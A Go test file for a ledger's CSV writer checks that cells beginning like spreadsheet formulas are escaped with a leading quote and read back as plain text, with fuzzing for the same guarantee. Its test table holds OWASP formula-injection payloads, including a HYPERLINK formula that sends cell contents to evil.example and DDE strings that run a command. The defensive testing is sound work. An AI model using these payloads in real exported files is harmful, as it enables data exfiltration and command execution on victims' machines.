package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/ontschot/ontschot/ledger/sheet"
)

// write writes one row and returns the bytes and the fields encoding/csv
// reads back.
func write(t testing.TB, cells ...sheet.Cell) (string, []string) {
	t.Helper()
	var b bytes.Buffer
	w := sheet.NewWriter(&b)
	w.Row(cells...)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(b.String()))
	r.FieldsPerRecord = -1
	rec, err := r.Read()
	if err != nil {
		t.Fatalf("%q does not parse as CSV: %v", b.String(), err)
	}
	return b.String(), rec
}

// TestTextThatLooksLikeAFormula: each payload of the OWASP page and the
// issue is written with a single quote in front, in a quoted field, and
// reads back as that text.
func TestTextThatLooksLikeAFormula(t *testing.T) {
	tests := []struct{ in, line, value string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Klik")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")"`, `'=HYPERLINK("http://evil.example/?"&A1,"Klik")`},
		{`+cmd|' /C calc'!A0`, `"'+cmd|' /C calc'!A0"`, `'+cmd|' /C calc'!A0`},
		{`@SUM(1+1)`, `"'@SUM(1+1)"`, `'@SUM(1+1)`},
		{`-2+3+cmd|' /C calc'!A0`, `"'-2+3+cmd|' /C calc'!A0"`, `'-2+3+cmd|' /C calc'!A0`},
		{`- Stichting Min`, `"'- Stichting Min"`, `'- Stichting Min`},
		{"\t=1+1", "\"'\t'=1+1\"", "'\t'=1+1"},
		{"\r=1+1", "\"'\r'=1+1\"", "'\r'=1+1"},
		{`=`, `"'="`, `'=`},
		{`-12.50`, `"'-12.50"`, `'-12.50`}, // text that looks like an amount stays text
		// After a separator a spreadsheet may start a new cell.
		{`Elkien;=HYPERLINK("x")`, `"Elkien;'=HYPERLINK(""x"")"`, `Elkien;'=HYPERLINK("x")`},
		{"regel 1\n@SUM(1+1)", "\"regel 1\n'@SUM(1+1)\"", "regel 1\n'@SUM(1+1)"},
		{"a\t+1", "\"a\t'+1\"", "a\t'+1"},
	}
	for _, tt := range tests {
		line, rec := write(t, sheet.Text(tt.in))
		if line != tt.line+"\n" {
			t.Errorf("Text(%q) is written as %q; want %q", tt.in, line, tt.line+"\n")
		}
		if len(rec) != 1 || rec[0] != tt.value {
			t.Errorf("Text(%q) reads back as %q; want %q", tt.in, rec, tt.value)
		}
		if !sheet.LooksLikeFormula(tt.in) {
			t.Errorf("LooksLikeFormula(%q) = false", tt.in)
		}
	}
	for _, s := range []string{"Woonstichting Elkien", "a-b", "x = y", "info@elkien.nl", "12,-", "weging onvolledig; buiten mandaat", ""} {
		if sheet.LooksLikeFormula(s) {
			t.Errorf("LooksLikeFormula(%q) = true", s)
		}
	}
}

// TestNumbersStayNumbers: a negative amount is a number cell, written bare,
// however it begins; only a cell called a number that is no plain decimal
// is guarded as the text it is.
func TestNumbersStayNumbers(t *testing.T) {
	for in, want := range map[string]string{
		"-12.50": "-12.50", "12.50": "12.50", "0.00": "0.00", "-0.01": "-0.01", "0.1798": "0.1798", "-1342": "-1342",
		"=1+1": `"'=1+1"`, "-1+1": `"'-1+1"`, "+12.50": `"'+12.50"`, "1e5": "1e5", "12,50": `"12,50"`, "- 1": `"'- 1"`,
	} {
		if line, _ := write(t, sheet.Number(in)); line != want+"\n" {
			t.Errorf("Number(%q) is written as %q; want %q", in, line, want+"\n")
		}
	}
	line, rec := write(t, sheet.Text("omschrijving"), sheet.Number("-12.50"), sheet.Int(-3), sheet.Int(2026), sheet.Empty)
	if line != "omschrijving,-12.50,-3,2026,\n" || len(rec) != 5 || rec[1] != "-12.50" {
		t.Errorf("row = %q, read %q", line, rec)
	}
}

// TestOrdinaryTextAsEncodingCSV: text without a formula is written byte for
// byte as encoding/csv writes it, so the Iv3 list's digest and the files
// people already have do not change.
func TestOrdinaryTextAsEncodingCSV(t *testing.T) {
	rows := [][]string{
		{"sectie", "omschrijving", "aantal", "bedrag"},
		{"pot", "Doorbraakfonds Leeuwarden–De Friesland 2026", "", ""},
		{"a,b", `zeg "nee"`, " voorloopspatie", "regel\nregel", `\.`, "Woonbedrijf 🏠", "weging onvolledig; buiten mandaat", "6.71a", "2026-07-01", "x-y", "'al een quote"},
		{""},
		{},
	}
	var want, got bytes.Buffer
	cw := csv.NewWriter(&want)
	sw := sheet.NewWriter(&got)
	for _, r := range rows {
		cw.Write(r)
		sw.Strings(r...)
	}
	cw.Flush()
	if err := sw.Flush(); err != nil {
		t.Fatal(err)
	}
	if got.String() != want.String() {
		t.Fatalf("sheet wrote\n%q\nencoding/csv writes\n%q", got.String(), want.String())
	}
}

// FuzzText: any text is written so that encoding/csv reads it back, either
// as it was or with single quotes before the formula starts, and no field
// read back begins with a formula.
func FuzzText(f *testing.F) {
	for _, s := range []string{"", "Elkien", `=HYPERLINK("a","b")`, "a;-1", "\t\r\n", "\"", "'=", "Woonbedrijf 🏠", "\xff"} {
		f.Add(s, "12.50")
	}
	f.Fuzz(func(t *testing.T, s, n string) {
		var b bytes.Buffer
		w := sheet.NewWriter(&b)
		w.Row(sheet.Text(s), sheet.Number(n), sheet.Text("eind"))
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&b)
		r.FieldsPerRecord = -1
		rec, err := r.Read()
		if err != nil {
			t.Fatalf("%q does not parse: %v", b.String(), err)
		}
		if len(rec) != 3 || rec[2] != "eind" {
			t.Fatalf("%q reads back as %q", b.String(), rec)
		}
		// Text without a formula comes out as encoding/csv writes it.
		if !sheet.LooksLikeFormula(s) && s != "" {
			var want, got bytes.Buffer
			cw := csv.NewWriter(&want)
			cw.Write([]string{s, "eind"})
			cw.Flush()
			w := sheet.NewWriter(&got)
			w.Strings(s, "eind")
			w.Flush()
			if got.String() != want.String() {
				t.Fatalf("%q is written as %q; encoding/csv writes %q", s, got.String(), want.String())
			}
		}
		// encoding/csv reads a quoted \r\n as \n.
		norm := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
		for i, in := range []string{s, n} {
			got := rec[i]
			if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !(i == 1 && got == n) {
				t.Fatalf("cell %q reads back as %q, a formula", in, got)
			}
			if sheet.LooksLikeFormula(in) == (norm(got) == norm(in)) && !(i == 1 && got == n) {
				t.Fatalf("cell %q reads back as %q", in, got)
			}
		}
	})
}
